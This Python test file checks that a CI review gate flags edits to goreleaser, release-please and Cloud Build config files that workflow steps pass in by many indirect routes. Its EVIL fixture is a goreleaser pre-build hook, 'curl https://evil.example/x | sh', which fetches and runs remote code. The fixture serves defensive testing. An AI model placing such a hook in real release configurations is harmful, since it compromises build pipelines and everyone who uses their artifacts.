"""Attack 29: ways a CI step hands goreleaser, release-please or Cloud Build a settings file that ciconfigs.py did not
see (issue 12's rule, tests/test_ci_tool_settings.py). Each file, under a name no rule knows, was edited alone and the
change allowed (`gate --tree` exit 0) on 9df582b; a file CI runs from must be reviewed.
"""

from __future__ import annotations

from pathlib import Path

from gitrepo import two_commits
from incli import tree_classify, tree_gate
from tables import each_case

WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
EVIL = "before:\n  hooks:\n  - curl https://evil.example/x | sh\n"

# name: (the workflow's steps, indented as steps; the file handed)
STEPS: dict[str, tuple[str, str]] = {
    "goreleaser-action args": ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n"
                               "          version: '~> v2'\n          args: release --clean --config tools/rel.yaml\n",
                               "tools/rel.yaml"),
    "goreleaser-action args -f": ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n"
                                  "          args: release -f tools/rel.yaml\n", "tools/rel.yaml"),
    "quoted after =": ('      - run: goreleaser release --config="tools/rel.yaml"\n', "tools/rel.yaml"),
    "-fFILE": ("      - run: goreleaser release -ftools/rel.yaml\n", "tools/rel.yaml"),
    "go run goreleaser": ("      - run: go run github.com/goreleaser/goreleaser/v2@latest release "
                          "--config tools/rel.yaml\n",
                          "tools/rel.yaml"),
    "timeout": ("      - run: timeout 600 goreleaser release --config tools/rel.yaml\n", "tools/rel.yaml"),
    "bash -c": ("      - run: bash -c 'goreleaser release --config tools/rel.yaml'\n", "tools/rel.yaml"),
    "docker image": ("      - run: docker run --rm -v $PWD:/src -w /src goreleaser/goreleaser release --config "
                     "tools/rel.yaml\n", "tools/rel.yaml"),
    "build-config trigger": ("      - run: gcloud builds triggers create github --build-config=tools/cb.yaml\n",
                             "tools/cb.yaml"),
}


def _assert_reviewed(tmp_path: Path, steps: str, path: str, files: dict[str, str] | None = None) -> None:
    """A release workflow with `steps` (and `files` beside it) hands `path` to a tool; the change edits only `path`:
    with the commits it is ci, or the gate does not allow it."""
    base = {"README.md": "x\n", path: "builds:\n- main: ./cmd/app\n", **(files or {}),
            ".github/workflows/release.yml": WORKFLOW.format(steps=steps)}
    repo, first, last = two_commits(tmp_path / "r", base, {path: EVIL})
    found = tree_classify(repo.root, first, last)
    code, decision = tree_gate(repo.root, first, last)
    assert found[path]["bucket"] == "ci" or code != 0, (found, decision)


@each_case("case", sorted(STEPS))
def test_a_hidden_handing_still_makes_the_file_ci(tmp_path: Path, case: str) -> None:
    steps, path = STEPS[case]
    _assert_reviewed(tmp_path, steps, path)


# name: (files beside the workflow, the workflow's steps; the file handed)
MORE: dict[str, tuple[dict[str, str], str, str]] = {
    "make target": ({"Makefile": "release:\n\tgoreleaser release --config tools/rel.yaml\n"},
                    "      - run: make release\n", "tools/rel.yaml"),
    "run | continued": ({}, "      - run: |\n          goreleaser release \\\n            --clean \\\n"
                            "            --config tools/rel.yaml\n", "tools/rel.yaml"),
    "npx release-please": ({}, "      - run: npx release-please release-pr --config-file=\"tools/rp.json\"\n",
                           "tools/rp.json"),
    "step env": ({}, "      - run: goreleaser release --config \"$CFG\"\n        env:\n          CFG: tools/rel.yaml\n",
                 "tools/rel.yaml"),
    "shell assignment": ({}, "      - run: CFG=tools/rel.yaml; goreleaser release --config ${CFG}\n", "tools/rel.yaml"),
}


@each_case("case", sorted(MORE))
def test_more_hidden_handings(tmp_path: Path, case: str) -> None:
    files, steps, path = MORE[case]
    _assert_reviewed(tmp_path, steps, path, files)


@each_case(("steps", "path"), [
    ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n          args: >-\n            release\n"
     "            --config tools/rel.yaml\n", "tools/rel.yaml"),
    ("      - uses: goreleaser/goreleaser-action@v6\n        with:\n          workdir: sub\n"
     "          args: release -f rel.yaml\n", "sub/rel.yaml"),
    ("      - run: >\n          goreleaser release\n          --config tools/rel.yaml\n", "tools/rel.yaml"),
    ("      - run: &rel goreleaser release --config tools/rel.yaml\n      - run: *rel\n", "tools/rel.yaml"),
])
def test_folded_and_action_forms(tmp_path: Path, steps: str, path: str) -> None:
    _assert_reviewed(tmp_path, steps, path)


def test_with_before_uses_and_a_linters_args_beside(tmp_path: Path) -> None:
    """goreleaser-action's `with:` written before its `uses:` is still its step; golangci-lint-action's `args:` in
    the same workflow (chezmoi's main.yml, the forty-sixth set's `.config/golangci.yml`, labelled other) stay."""
    steps = ("      - with:\n          args: release --config tools/rel.yaml\n"
             "        uses: goreleaser/goreleaser-action@v6\n"
             "      - uses: golangci/golangci-lint-action@v9\n        with:\n"
             "          args: --config=.config/golangci.yml --timeout=5m\n")
    base = {"README.md": "x\n", "tools/rel.yaml": "builds: []\n", ".config/golangci.yml": "a: 1\n",
            ".github/workflows/release.yml": WORKFLOW.format(steps=steps)}
    repo, first, last = two_commits(tmp_path / "r", base, {"tools/rel.yaml": EVIL, ".config/golangci.yml": "a: 2\n"})
    found = tree_classify(repo.root, first, last)
    assert found["tools/rel.yaml"]["bucket"] == "ci", found
    assert found[".config/golangci.yml"]["bucket"] != "ci", found
